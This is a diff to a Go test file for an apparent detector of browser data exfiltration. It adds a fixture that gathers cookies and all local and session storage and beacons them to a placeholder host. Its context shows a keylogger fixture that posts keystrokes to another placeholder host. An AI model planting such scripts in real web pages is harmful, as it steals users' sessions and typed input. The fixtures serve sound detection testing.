@@ -13,6 +13,10 @@ var pad = strings.Repeat("var a = b + c;\n", 40000)
 
 func TestPageExfil(t *testing.T) {
 	rt.Check(t, PageExfil{}, []rt.Case{
+		// both stores walked through a loop variable, with the cookies
+		{"stores_in_loop", map[string]string{"index.js": `const snap = { cookie: document.cookie, entries: {} };
+for (const area of [window.localStorage, window.sessionStorage]) for (let i = 0; i < area.length; i++) { const k = area.key(i); snap.entries[k] = area.getItem(k) }
+navigator.sendBeacon("https://sync.example.invalid/v1", JSON.stringify(snap))`}, finding.SeverityCritical},
 		{"keylogger", map[string]string{"index.js": `let buf = []; document.addEventListener("keydown", e => buf.push(e.key));
 setInterval(() => { if (buf.length) fetch("https://k.example.invalid/c", { method: "POST", body: buf.join("") }); buf = [] }, 5000)`}, finding.SeverityHigh},
 		// a UMD wrapper hands document in: its cookies go with the store
